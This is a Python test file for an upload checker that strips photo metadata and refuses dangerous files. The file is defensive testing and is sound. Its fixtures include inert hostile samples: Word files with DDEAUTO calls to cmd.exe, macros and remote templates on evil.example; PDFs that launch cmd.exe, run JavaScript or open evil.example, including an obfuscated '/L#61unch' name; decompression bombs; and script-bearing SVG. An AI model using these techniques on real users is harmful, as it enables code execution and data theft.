"""Files that strangers send: what is kept of a picture, and what is refused and why."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from commonweal.sources import file_check
from commonweal.sources.file_check import examined

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PDF, TEXT = "application/pdf", "text/plain"


def refusal(content: bytes, media_type: str) -> str | None:
    (answer,) = examined(content, media_type=media_type)
    return answer.get("refused")


def kept(content: bytes, media_type: str) -> bytes:
    from base64 import b64decode

    (answer,) = examined(content, media_type=media_type)
    return b64decode(answer["kept"])


def picture() -> Image.Image:
    return Image.radial_gradient("L").resize((120, 80)).convert("RGB")


def jpeg(**options) -> bytes:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "ACME telephone"  # on its side
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (54.9, 1.38, 0.0)
    written = io.BytesIO()
    picture().save(written, "JPEG", exif=exif, comment=b"by the gate of Larkhollow school", **options)
    return written.getvalue()


@pytest.mark.parametrize("options", [{}, {"progressive": True}, {"quality": 95, "subsampling": 0}])
def test_photograph_keeps_its_picture_and_which_way_up_it_is_alone(options):
    given = jpeg(**options)
    bare = kept(given + b"PK\x03\x04 a second file behind the end", "image/jpeg")
    read = Image.open(io.BytesIO(bare))
    assert dict(read.getexif()) == {0x0112: 6}
    assert read.tobytes() == Image.open(io.BytesIO(given)).tobytes()
    for told in (b"ACME", b"gate", b"PK\x03\x04", b"GPS"):
        assert told not in bare


def test_png_keeps_its_picture_alone():
    notes, written = PngInfo(), io.BytesIO()
    notes.add_text("Author", "Jo of Larkhollow")
    picture().save(written, "PNG", pnginfo=notes)
    bare = kept(written.getvalue() + b"MZ behind the end", "image/png")
    assert b"Larkhollow" not in bare
    assert bare.endswith(b"IEND\xaeB`\x82")
    assert Image.open(io.BytesIO(bare)).tobytes() == picture().tobytes()


def part(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, rows: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header) + part(b"IDAT", zlib.compress(rows)) + part(b"IEND", b"")


def test_picture_of_ten_thousand_by_ten_thousand_is_refused_before_it_is_decoded(monkeypatch):
    monkeypatch.setattr(zlib, "decompressobj", _Sealed)
    assert refusal(png(10_000, 10_000, b"\x00"), "image/png") == "picture-too-large"


class _Sealed:
    """A stream that may not be opened."""

    def decompress(self, *_):
        raise AssertionError("the picture was decoded")


def test_large_jpeg_is_refused_by_what_it_says_of_its_size():
    given = bytearray(jpeg())
    place = given.index(b"\xff\xc0")
    given[place + 5 : place + 9] = struct.pack(">HH", 10_000, 10_000)
    assert refusal(bytes(given), "image/jpeg") == "picture-too-large"


def test_png_that_holds_more_than_its_size_is_refused():
    assert refusal(png(10, 10, b"\x00" * 5_000_000), "image/png") == "unpacks-too-large"


@pytest.mark.parametrize("cut", [2, 20, 60, 400, -1])
def test_damaged_picture_is_refused(cut):
    assert refusal(jpeg()[:cut], "image/jpeg") == "damaged"
    written = io.BytesIO()
    picture().save(written, "PNG")
    assert refusal(written.getvalue()[: max(cut, 8) if cut > 0 else cut], "image/png") == "damaged"


def package(**more: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        for name, content in more.items():
            archive.writestr(name, content)
    return written.getvalue()


@pytest.mark.parametrize(
    ("more", "reason"),
    [
        ({}, None),
        ({"word/media/image1.png": b"\x89PNG"}, None),
        ({"word/embeddings/book.xlsx": b"PK\x03\x04 an archive"}, "holds-archive"),
        ({"word/media/tool.bin": b"MZ a program"}, "holds-archive"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, "holds-program"),
        ({"word/vbaProject.bin": b"macros"}, "holds-program"),
        ({"../outside.txt": b"escaped"}, "damaged"),
        ({"word/_rels/settings.xml.rels":
          b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/>'},
         "holds-program"),
        ({"word/_rels/document.xml.rels":
          b'<Relationship Type="http://x/hyperlink" Target="http://a.example" TargetMode="External"/>'}, None),
        ({"word/footer.xml": b"<w:instrText> DDEAUTO c:\\cmd.exe"}, "holds-program"),
    ],
)  # fmt: skip
def test_document_by_what_it_holds(more, reason):
    assert refusal(package(**more), WORD) == reason


def test_document_that_is_another_kind_is_refused():
    assert refusal(package(), EXCEL) == "not-what-it-says"


def test_document_that_unpacks_too_far_is_refused_by_what_it_declares(monkeypatch):
    monkeypatch.setattr(file_check, "MOST_UNPACKED", 1_000_000)
    assert refusal(package(**{"word/big.xml": b"0" * 2_000_000}), WORD) == "unpacks-too-large"


def test_document_that_lies_about_what_it_unpacks_to_is_refused(monkeypatch):
    given = package(**{"word/big.xml": b"0" * 2_000_000})
    lying = given.replace(struct.pack("<I", 2_000_000), struct.pack("<I", 20))
    assert lying != given
    monkeypatch.setattr(file_check, "MOST_UNPACKED", 1_000_000)
    assert refusal(lying, WORD) in ("damaged", "unpacks-too-large")


def test_document_whose_parts_share_their_bytes_is_refused():
    given = package(**{f"word/{number}.xml": b"%d" % number * 3_000 for number in range(9)})
    with zipfile.ZipFile(io.BytesIO(given)) as archive:
        [size] = {part.compress_size for part in archive.infolist() if part.filename == "word/1.xml"}
    lying = given.replace(struct.pack("<I", size), struct.pack("<I", len(given)))
    assert refusal(lying, WORD) in ("unpacks-too-large", "damaged")


def test_document_of_too_many_parts_is_refused(monkeypatch):
    monkeypatch.setattr(file_check, "MOST_PARTS", 5)
    assert refusal(package(**{f"word/{number}.xml": b"x" for number in range(6)}), WORD) == "unpacks-too-large"


def pdf(change=lambda made: None, **saved) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    written = io.BytesIO()
    made.save(written, **saved)
    return written.getvalue()


def launches(made):
    made.Root.OpenAction = made.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    )  # fmt: skip


def scripts(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def carries(made):
    made.attachments["tool.exe"] = b"MZ"


def fetches(made):
    made.Root.OpenAction = made.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example"))
    )  # fmt: skip


def goes(made):
    made.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
    )  # fmt: skip


PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


@pytest.mark.parametrize("saved", [{}, PACKED], ids=["plain", "packed"])
@pytest.mark.parametrize(
    ("change", "reason"),
    [(lambda made: None, None), (goes, None), (launches, "pdf-acts"), (scripts, "pdf-acts"), (carries, "pdf-acts")],
)
def test_pdf_by_what_it_does(change, reason, saved):
    assert refusal(pdf(change, **saved), PDF) == reason


def test_pdf_that_opens_an_address_by_itself_is_refused():
    assert refusal(pdf(fetches), PDF) == "pdf-acts"


def test_pdf_that_writes_its_names_in_another_way_is_refused():
    assert refusal(pdf(launches).replace(b"/Launch", b"/L#61unch"), PDF) == "pdf-acts"


def test_locked_pdf_is_refused():
    assert refusal(pdf(encryption=pikepdf.Encryption(owner="a", user="")), PDF) == "locked"


def test_pdf_whose_objects_are_packed_in_a_way_we_do_not_open_is_refused():
    given = pdf(launches, **PACKED).replace(b"/FlateDecode", b"/LZWDecode  ")
    assert refusal(given, PDF) == "pdf-hides"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"Name,Sessions\nA-17,4\n", None),
        (b"\xff\xfeN\x00a\x00", None),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "web-page"),
        (b"\xef\xbb\xbf <!DOCTYPE html><script>", "web-page"),
        ("<html>".encode("utf-16"), "web-page"),
        (b"< 5 pupils came", None),
    ],
)
def test_text_is_refused_where_it_is_a_web_page(content, reason):
    assert refusal(content, TEXT) == reason


def test_old_excel_file_with_a_macro_is_refused():
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
    assert refusal(compound, "application/vnd.ms-excel") is None
    assert refusal(compound + "_VBA_PROJECT".encode("utf-16-le"), "application/vnd.ms-excel") == "holds-program"
